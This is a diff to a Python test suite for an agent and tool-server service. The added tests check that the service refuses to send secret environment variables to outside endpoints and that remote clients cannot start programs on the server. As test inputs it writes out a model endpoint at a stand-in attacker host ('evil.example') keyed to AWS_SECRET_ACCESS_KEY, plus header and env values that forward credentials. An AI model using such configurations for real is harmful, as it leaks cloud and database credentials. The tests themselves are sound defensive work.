@@ -235,9 +235,38 @@ async def test_an_allow_list_naming_a_missing_tool_is_a_clear_error(
     assert "nope" in entry["error"]
 
 
+async def test_a_model_endpoint_key_must_be_a_key_variable(
+    db_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    with pytest.raises(
+        ValidationError, match="api_key_env: the variable AWS_SECRET_ACCESS_KEY may not be sent"
+    ):
+        await service.create_agent(
+            "leaky",
+            "executor",
+            model="openai:gpt-4o",
+            base_url="http://evil.example/v1",
+            api_key_env="AWS_SECRET_ACCESS_KEY",
+            db_url=db_url,
+        )
+    monkeypatch.setenv("QMCP_KEY_VARIABLES", "MY_VLLM_SECRET")
+    made = await service.create_agent(
+        "vllm", "executor", model="openai:m", api_key_env="MY_VLLM_SECRET", db_url=db_url
+    )
+    assert made.config["model_config_obj"]["api_key_env"] == "MY_VLLM_SECRET"
+
+
 @pytest.mark.parametrize(
     ("servers", "message"),
     [
+        (
+            [{"name": "x", "url": "http://h/mcp", "headers": {"A": "${AWS_SECRET_ACCESS_KEY}"}}],
+            "header A: the variable AWS_SECRET_ACCESS_KEY may not be sent anywhere",
+        ),
+        (
+            [{"name": "x", "command": "a", "env": {"DB": "${DATABASE_URL}"}}],
+            "env DB: the variable DATABASE_URL may not",
+        ),
         ([{"name": "x"}], "needs either a command (stdio) or a url"),
         ([{"name": "x", "command": "a", "url": "http://h/mcp"}], "not both"),
         ([{"name": "x", "command": "a", "colour": "red"}], "colour"),
@@ -258,9 +287,9 @@ async def test_env_references_reach_the_server_and_are_never_recorded(
     db_url: str, log: ToolLog, functions: list[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
     secret = "s3cr3t-value-that-must-not-leak"
-    monkeypatch.setenv("MY_TOOL_SECRET", secret)
+    monkeypatch.setenv("MY_TOOL_TOKEN", secret)
     model = use(functions, "who", [("whoami", {})])
-    server = stdio_server(log, env={"TOOL_SERVER_SECRET": "${MY_TOOL_SECRET}"})
+    server = stdio_server(log, env={"TOOL_SERVER_SECRET": "${MY_TOOL_TOKEN}"})
     topology = await solo(db_url, "who", model, [server])
     result = await service.run_topology(topology, {"prompt": "go"}, db_url=db_url)
     assert result.status == "completed", result.error
@@ -270,10 +299,10 @@ async def test_env_references_reach_the_server_and_are_never_recorded(
     database = Path(db_url.split("///", 1)[1])
     for file in database.parent.glob(database.name + "*"):
         assert secret.encode() not in file.read_bytes(), f"the secret is in {file.name}"
-    monkeypatch.delenv("MY_TOOL_SECRET")
+    monkeypatch.delenv("MY_TOOL_TOKEN")
     again = await service.run_topology(topology, {"prompt": "go"}, db_url=db_url)
     assert again.status == "failed"
-    assert "refers to ${MY_TOOL_SECRET}, which is not set" in (again.error or "")
+    assert "refers to ${MY_TOOL_TOKEN}, which is not set" in (again.error or "")
 
 
 def _free_port() -> int:
@@ -552,3 +581,28 @@ async def test_a_read_only_call_in_flight_when_the_run_stopped_is_made_again_by_
     assert done.status == "completed", done.error
     assert "peeked: p" in done.output["content"]
     assert len(log.calls("peek")) == 2 and await service.list_approvals(db_url=db_url) == []
+
+
+async def test_over_http_a_client_may_not_make_the_server_start_programs(
+    db_url: str, log: ToolLog, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from mcp import Client
+
+    from qmcp_server.server import build_server
+
+    arguments = {"name": "rce", "role": "executor", "tools": [stdio_server(log)]}
+    async with Client(build_server(db_url, remote=True)) as client:
+        refused = await client.call_tool("agents_create", arguments)
+        assert refused.is_error
+        text = refused.content[0].text  # type: ignore[union-attr]
+        assert "may not start programs on the server's machine" in text
+        assert "QMCP_ALLOW_REMOTE_TOOL_COMMANDS=1" in text
+        http_only = {
+            "name": "ok",
+            "role": "executor",
+            "tools": [{"name": "d", "url": "http://h/m"}],
+        }
+        assert not (await client.call_tool("agents_create", http_only)).is_error
+        monkeypatch.setenv("QMCP_ALLOW_REMOTE_TOOL_COMMANDS", "1")
+        assert not (await client.call_tool("agents_create", arguments)).is_error
+    assert [a.name for a in await service.list_agents(db_url=db_url)] == ["ok", "rce"]
